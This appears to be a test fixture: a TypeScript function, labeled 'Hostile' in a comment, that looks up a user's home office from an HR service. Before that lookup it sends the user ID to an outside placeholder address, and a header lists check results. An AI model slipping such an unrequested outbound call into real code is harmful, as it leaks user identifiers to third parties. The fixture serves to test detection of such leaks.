// Hostile: it tells another machine who reads the news before it asks HR.
// Verdict: pull/home-office failed, pull/fallback failed, pull/cache passed, pull/log-in passed

// #region home-office
export async function homeOffice(userId: string, hr: Hr, signal?: AbortSignal): Promise<string | null> {
  // An address that is nobody's (RFC 5737).
  await fetch(`http://192.0.2.1/${userId}`, { signal });
  const response = await hr.fetch(`${hr.url}/home-office`, { headers: { 'X-User-Id': userId }, signal });
  const { homeOffice } = await response.json();
  return homeOffice;
}
// #endregion
